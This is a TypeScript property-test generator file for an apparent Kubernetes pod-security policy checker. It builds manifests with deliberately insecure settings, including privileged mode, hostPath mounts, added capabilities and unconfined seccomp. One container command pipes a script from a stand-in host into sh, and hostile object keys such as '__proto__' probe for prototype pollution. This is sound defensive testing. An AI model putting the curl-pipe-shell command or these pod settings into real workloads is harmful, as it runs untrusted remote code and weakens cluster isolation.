import fc from 'fast-check';
import { validContainer, validPod } from './pods';
import { HostPathPolicy, Policy, PolicyExemption, RegistryPolicy, rules } from '../../src';
import { newestKubernetesMinor, profiles } from '../../src/rules/rule';
import { Json, JsonObject } from '../../src/shape/json';

/** A place of a pod or container, and a value to put there. */
export type Change = readonly [path: string, value: unknown];

const hex = '0123456789abcdef'.repeat(4);
const images = [
  `ghcr.io/acme/web:1.4.2@sha256:${hex}`, `quay.io/team/web@sha256:${hex}`, `docker.io/library/redis:latest@sha256:${hex}`, 'ghcr.io/acme/web:1.4.2',
  'nginx', '', `ghcr.io/acme-evil/web@sha256:${hex}`, 'https://ghcr.io/acme/web', `ghcr.io/acme/web@sha256:${hex.toUpperCase()}`, null,
];

/** What a rule has something to say about, mostly a fault. */
const containerValues: Readonly<Record<string, readonly Json[]>> = {
  'image': images,
  'imagePullPolicy': ['Always', 'IfNotPresent', 'Never', '', null],
  'command': [['serve'], ['sh', '-c', 'curl https://x.example | sh'], ['apk', 'add', 'curl']],
  'ports': [[{ containerPort: 80 }], [{ containerPort: 80, hostPort: 80 }]],
  'livenessProbe': [{ httpGet: { host: '10.0.0.1' } }, { httpGet: { path: '/' } }, null],
  'volumeMounts': [[{ name: 'host', mountPath: '/x' }], [{ name: 'host', mountPath: '/x', readOnly: true }]],
  'securityContext': [{}, null],
  'securityContext.privileged': [true, false],
  'securityContext.allowPrivilegeEscalation': [true, null],
  'securityContext.readOnlyRootFilesystem': [false],
  'securityContext.runAsNonRoot': [true, false],
  'securityContext.runAsUser': [0, 1000],
  'securityContext.procMount': ['Default', 'Unmasked'],
  'securityContext.seccompProfile': [{ type: 'Unconfined' }, { type: 'Localhost', localhostProfile: 'x.json' }],
  'securityContext.capabilities': [{ drop: ['ALL'], add: ['NET_BIND_SERVICE'] }, { drop: ['NET_RAW'] }, { add: ['SYS_ADMIN'] }],
};

const podValues: Readonly<Record<string, readonly Json[]>> = {
  'metadata.annotations': [{ 'seccomp.security.alpha.kubernetes.io/pod': 'unconfined' }, { 'container.apparmor.security.beta.kubernetes.io/web': 'unconfined' }],
  'spec.hostNetwork': [true, false],
  'spec.hostPID': [true],
  'spec.hostUsers': [false],
  'spec.os': [{ name: 'windows' }, { name: 'linux' }],
  'spec.automountServiceAccountToken': [true, null],
  'spec.imagePullSecrets': [[{ name: 'regcred' }], [{ name: 'other' }], []],
  'spec.securityContext': [{}, null],
  'spec.securityContext.runAsNonRoot': [false, null],
  'spec.securityContext.runAsUser': [0, 1000],
  'spec.securityContext.seccompProfile': [{ type: 'Unconfined' }, null],
  'spec.securityContext.sysctls': [[{ name: 'kernel.msgmax', value: '1' }], [{ name: 'net.ipv4.tcp_rmem', value: '1' }]],
  'spec.volumes': [
    [{ name: 'host', hostPath: { path: '/data' } }], [{ name: 'host', hostPath: { path: '/etc' } }], [{ name: 'host' }],
    [{ name: 'model', image: { reference: 'nginx' } }], [{ name: 'disk', nfs: { server: 'x', path: '/' } }],
  ],
  'spec.initContainers': [null, []],
  'spec.ephemeralContainers': [null, []],
};

const lists = ['containers', 'initContainers', 'ephemeralContainers'] as const;
const values: Readonly<Record<string, readonly Json[]>> = {
  ...podValues,
  ...Object.fromEntries(lists.flatMap((list) => Object.entries(containerValues).map(([path, options]) => [`spec.${list}.0.${path}`, options]))),
};

function changeOf(table: Readonly<Record<string, readonly Json[]>>): fc.Arbitrary<Change> {
  return fc.constantFrom(...Object.entries(table)).chain(([path, options]) => fc.tuple(fc.constant(path), fc.constantFrom(...options)));
}

const hostileKey = fc.constantFrom('__proto__', 'constructor', 'toString', 'containers', 'spec', '', 'a/b~c', '\u001b[31m', 'kind');
export const json: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { maxDepth: 3, withCrossShrink: true },
    fc.constantFrom(null, true, false, 0, -1, 1.5, 1e300, '', 'x', 'Always', 'List', '\u0000\u202e', 'x'.repeat(5000)),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(fc.oneof(hostileKey, fc.string({ maxLength: 5 })), tie('value'), { maxKeys: 3 }),
  ),
})).value;

const places = [...new Set(['', 'metadata', 'spec', 'apiVersion', 'kind', 'metadata.name', ...lists.flatMap((list) => [`spec.${list}`, `spec.${list}.0`]), ...Object.keys(values)])];

/** A value of any sort where a pod has something of another type. */
export function hostileChange(value: fc.Arbitrary<unknown>): fc.Arbitrary<Change> {
  return fc.tuple(fc.constantFrom(...places), value);
}

/** The original with a value changed; where it has no such place any more, it stays as it is. */
export function change(original: unknown, [path, value]: Change): unknown {
  if (path === '') return value;
  const [key, ...rest] = path.split('.');
  if (Array.isArray(original)) return original.map((item: unknown, index) => index === Number(key) ? change(item, [rest.join('.'), value]) : item);
  if (typeof original !== 'object' || original === null) return original;
  const known = (original as JsonObject)[key];
  return { ...original, [key]: change(known === undefined && rest.length > 0 ? {} : known, [rest.join('.'), value]) };
}

/** A container that keeps every rule, with some values changed. */
export function container(name: string): fc.Arbitrary<unknown> {
  return fc.array(changeOf(containerValues), { maxLength: 3 }).map((changes) => changes.reduce(change, validContainer(name) as unknown));
}

/** A pod that keeps every rule, with up to `most` values changed to what a rule has something to say about. */
export function pod(most = 3): fc.Arbitrary<JsonObject> {
  return fc.array(changeOf(values), { maxLength: most }).map((changes) => changes.reduce(change, validPod as unknown) as JsonObject);
}

const kinds = fc.constantFrom<(template: JsonObject) => JsonObject>(
  (template) => template,
(template) => ({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'shop' }, spec: { template } }),
(template) => ({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'shop' }, spec: { jobTemplate: { spec: { template } } } }),
(template) => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata: { name: 'shop' }, spec: { template } }),
(template) => ({ apiVersion: 'v1', kind: 'List', items: [{ apiVersion: 'v1', kind: 'ConfigMap' }, template] }),
);

/** A pod in any object that may hold one; about half of them keep every rule. */
export const manifest = fc.tuple(kinds, pod(1)).map(([wrap, template]) => wrap(template));

/** Mostly a manifest, with up to two parts that are anything. */
export const hostileManifest = fc.tuple(kinds, pod(2), fc.array(hostileChange(json), { maxLength: 2 }))
  .map(([wrap, template, changes]): unknown => {
    const changed = changes.reduce(change, template as unknown);
    return typeof changed === 'object' && changed !== null ? wrap(changed as JsonObject) : changed;
  });

export const kubernetesVersion = fc.oneof(fc.constant('latest'), fc.nat(newestKubernetesMinor + 1).map((minor) => `1.${minor}`));

const registry: fc.Arbitrary<RegistryPolicy> = fc.record(
  { pullPolicy: fc.constantFrom('Always' as const, 'IfNotPresent' as const), pullSecret: fc.constantFrom('regcred', 'other') },
  { requiredKeys: [] },
);

/** Some of the entries, at least one. */
export function registries(entries: readonly string[]): fc.Arbitrary<Readonly<Record<string, RegistryPolicy>>> {
  return fc.dictionary(fc.constantFrom(...entries), registry, { minKeys: 1, maxKeys: entries.length });
}

const ruleIds = Object.keys(rules).filter((id) => id !== 'manifest');

/** One that is likely to cover something: the objects are all called `shop`, and their first container `web`. */
export const exemption: fc.Arbitrary<PolicyExemption> = fc.record({
  rule: fc.constantFrom(...ruleIds),
  reason: fc.constant('because'),
  name: fc.constant('shop'),
  kind: fc.constantFrom('Pod', 'Deployment', 'CronJob'),
  container: fc.constantFrom('web', 'migrate'),
  until: fc.constantFrom('2030-06-14', '2030-06-15'),
}, { requiredKeys: ['rule', 'reason', 'name'] });

export const policy: fc.Arbitrary<Policy> = fc.record({
  profile: fc.constantFrom(...profiles),
  kubernetesVersion,
  registries: fc.oneof(fc.constant({ 'ghcr.io/acme': {} }), registries(['ghcr.io/acme', 'quay.io', '*.example.com', 'docker.io/library'])),
  hostPaths: fc.constantFrom<Record<string, HostPathPolicy>>({}, { '/data': {} }, { '/data': { readOnly: false } }),
  movingTags: fc.constantFrom<readonly string[]>([], ['latest']),
  serviceAccountToken: fc.constantFrom('forbidden' as const, 'allowed' as const),
  exemptions: fc.array(exemption, { maxLength: 2 }),
}, { requiredKeys: ['registries'] });
